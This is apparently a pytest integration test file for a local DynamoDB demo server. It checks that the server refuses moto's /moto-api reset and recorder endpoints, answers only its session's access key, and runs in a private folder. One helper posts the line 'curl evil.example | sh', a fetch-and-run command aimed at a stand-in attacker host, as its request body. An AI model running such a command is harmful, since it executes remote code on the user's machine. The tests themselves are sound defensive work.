"""The demo endpoint answers its own session only, and only DynamoDB (dynoview/demo/moto_app.py).

Any local user can reach the demo's loopback port. moto's ``/moto-api`` (reset, and a recorder
that writes and reads a ``moto_recording`` file in the server's working folder, following
symbolic links) made the user's demo process wipe its tables, read the user's files and
overwrite them for whoever asked. The demo now refuses every request that is not DynamoDB or
Streams, and every one not signed with the access key id its session was given; its child runs
in a folder of its own, closed to others (dynoview/demo/process.py).
"""

from __future__ import annotations

import json
import os
import stat
import sys
import urllib.error
import urllib.request
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import boto3
import pytest
from botocore.exceptions import ClientError

from dynoview.demo.backend import DEMO_SECRET, DemoBackend, start_demo
from dynoview.demo.json_protocol import TARGET_PREFIX, signed_headers
from dynoview.demo.process import DemoProcess

pytestmark = pytest.mark.integration

RECORDER = ("/moto-api/recorder/upload-recording", "/moto-api/recorder/download-recording",
            "/moto-api/recorder/start-recording", "/moto-api/reset", "/moto-api/")


def _post(url: str, path: str, body: bytes = b"", headers: dict[str, str] | None = None,
          method: str = "POST") -> tuple[int, dict[str, Any]]:
    """The endpoint's status and JSON answer (an error answer too)."""
    request = urllib.request.Request(url + path, data=body if method == "POST" else None,
                                     headers=headers or {}, method=method)
    try:
        with urllib.request.urlopen(request, timeout=10) as response:  # loopback only
            status, answer = response.status, response.read()
    except urllib.error.HTTPError as exc:
        status, answer = exc.code, exc.read()
    return status, json.loads(answer) if answer else {}


def _signed(url: str, key: str, operation: str = "ListTables") -> dict[str, str]:
    """Headers of a DynamoDB request signed with access key id ``key``."""
    return signed_headers(host=url.removeprefix("http://"), target=TARGET_PREFIX + operation,
                          body=b"{}", access_key=key, secret_key=DEMO_SECRET, region="us-east-1")


def _client(url: str, key: str, service: str = "dynamodb") -> Any:
    return boto3.client(service, endpoint_url=url, region_name="us-east-1",
                        aws_access_key_id=key, aws_secret_access_key=DEMO_SECRET)


def _assert_moto_api_refused(url: str, key: str, folders: list[Path]) -> None:
    """Every /moto-api path is refused, even signed with the session's key, and no recording
    is written in (or read from) any of ``folders``."""
    for folder in folders:
        (folder / "moto_recording").unlink(missing_ok=True)
    for path in RECORDER:
        for headers in ({}, _signed(url, key)):
            for method in ("POST", "GET"):
                status, said = _post(url, path, b"curl evil.example | sh\n", headers, method)
                assert status == 404, (path, method, status, said)
                assert said["__type"].endswith("#UnknownOperationException")
    for folder in folders:
        assert not (folder / "moto_recording").exists()


def _assert_only_its_key(url: str, key: str) -> None:
    """DynamoDB and Streams answer the session's key; another key id, or none, gets 403."""
    assert isinstance(_client(url, key).list_tables()["TableNames"], list)
    assert isinstance(_client(url, key, "dynamodbstreams").list_streams()["Streams"], list)
    for other in ("demo", "testingfakekey", key[:-1], key + "0"):
        with pytest.raises(ClientError) as caught:
            _client(url, other).list_tables()
        assert caught.value.response["Error"]["Code"] == "UnrecognizedClientException"
        assert caught.value.response["ResponseMetadata"]["HTTPStatusCode"] == 403
    status, said = _post(url, "/", b"{}", {"X-Amz-Target": TARGET_PREFIX + "ListTables",
                                           "Content-Type": "application/x-amz-json-1.0"})
    assert (status, said["__type"].rpartition("#")[2]) == (403, "UnrecognizedClientException")
    # Not DynamoDB: a target of another service (S3, as the dispatcher would have served it).
    status, said = _post(url, "/", b"{}", {**_signed(url, key), "X-Amz-Target": "AmazonS3.ListBuckets"})
    assert (status, said["__type"].rpartition("#")[2]) == (400, "UnknownOperationException")
    status, _said = _post(url, "/demo-bucket", b"", _signed(url, key), method="GET")
    assert status == 404


@pytest.fixture
def in_process_demo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[DemoBackend]:
    """``start_demo`` as the CLI's ``--demo`` runs it, in a folder others may write."""
    monkeypatch.chdir(tmp_path)
    backend = start_demo(seed=False)
    try:
        yield backend
    finally:
        backend.stop()


def test_the_in_process_demo_refuses_moto_api_and_keeps_its_tables(in_process_demo: DemoBackend,
                                                                   tmp_path: Path) -> None:
    backend = in_process_demo
    conn = backend.connect()
    name = f"guard-{uuid.uuid4().hex[:8]}"
    conn.client.create_table(TableName=name, BillingMode="PAY_PER_REQUEST",
                             AttributeDefinitions=[{"AttributeName": "PK", "AttributeType": "S"}],
                             KeySchema=[{"AttributeName": "PK", "KeyType": "HASH"}])
    try:
        _assert_moto_api_refused(backend.endpoint_url, backend.access_key, [tmp_path])
        assert name in conn.list_tables()  # /moto-api/reset wiped nothing
    finally:
        conn.client.delete_table(TableName=name)


def test_the_in_process_demo_answers_its_own_key_only(in_process_demo: DemoBackend) -> None:
    backend = in_process_demo
    _assert_only_its_key(backend.endpoint_url, backend.access_key)
    assert len(backend.access_key) == 32 and int(backend.access_key, 16) >= 0  # hex: DynamoDB Local takes it


def test_each_in_process_demo_has_a_key_of_its_own(in_process_demo: DemoBackend) -> None:
    other = start_demo(seed=False)
    try:
        assert other.access_key != in_process_demo.access_key
        with pytest.raises(ClientError, match="UnrecognizedClientException"):
            _client(other.endpoint_url, in_process_demo.access_key).list_tables()
    finally:
        other.stop()


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads the child's /proc entries")
def test_the_demo_child_runs_in_a_private_folder_and_answers_its_app_only(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    shared = tmp_path / "shared-project"
    shared.mkdir()
    shared.chmod(0o777)  # a team folder, not sticky: the user starts `dynoview --demo` here
    monkeypatch.chdir(shared)
    demo = DemoProcess.spawn()
    try:
        url = demo.wait_listening()
        pid = demo._proc.pid
        cwd = Path(os.readlink(f"/proc/{pid}/cwd"))
        info = cwd.stat()
        assert cwd != shared and stat.S_IMODE(info.st_mode) == 0o700 and info.st_uid == os.getuid()
        assert demo.folder is not None and Path(demo.folder) == cwd
        # Other users read a process's arguments, not its environment: the key is not in them.
        assert demo.access_key.encode() not in Path(f"/proc/{pid}/cmdline").read_bytes()
        tables = demo.wait_ready()
        assert tables is not None and set(tables) == set(demo.backend().connect().list_tables())
        _assert_moto_api_refused(url, demo.access_key, [shared, cwd])
        _assert_only_its_key(url, demo.access_key)
        assert set(tables) == set(demo.backend().connect().list_tables())  # no reset
        assert list(shared.iterdir()) == [] and list(cwd.iterdir()) == []
    finally:
        demo.stop(wait=10)
    assert not demo.running and not cwd.exists()  # its folder goes with it


def test_a_child_started_without_its_key_says_so() -> None:
    """``dynoview --serve-demo`` run by hand (not by the app) has no key to answer: it refuses
    to start rather than answer anyone."""
    import subprocess

    from dynoview.demo.process import KEY_VARIABLE, serve_command

    env = {k: v for k, v in os.environ.items() if k != KEY_VARIABLE}
    out = subprocess.run(serve_command(), capture_output=True, text=True, env=env, timeout=60,
                         stdin=subprocess.DEVNULL)
    assert out.returncode == 1
    said = json.loads(out.stdout.strip().splitlines()[-1])
    assert KEY_VARIABLE in said["error"] and "dynoview --demo" in said["error"]


@pytest.mark.skipif(not hasattr(os, "getuid"), reason="POSIX owners and modes")
def test_the_childs_folder_is_under_the_users_runtime_folder_when_it_is_private(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from dynoview.demo.process import _private_folder

    runtime = tmp_path / "run-user"
    runtime.mkdir(mode=0o700)
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(runtime))
    first, second = Path(_private_folder()), Path(_private_folder())
    assert first.parent == runtime == second.parent and first != second
    assert stat.S_IMODE(first.stat().st_mode) == 0o700
    runtime.chmod(0o777)  # others could rename the folder away and plant their own: not used
    third = Path(_private_folder())
    try:
        assert third.parent != runtime and stat.S_IMODE(third.stat().st_mode) == 0o700
    finally:
        third.rmdir()
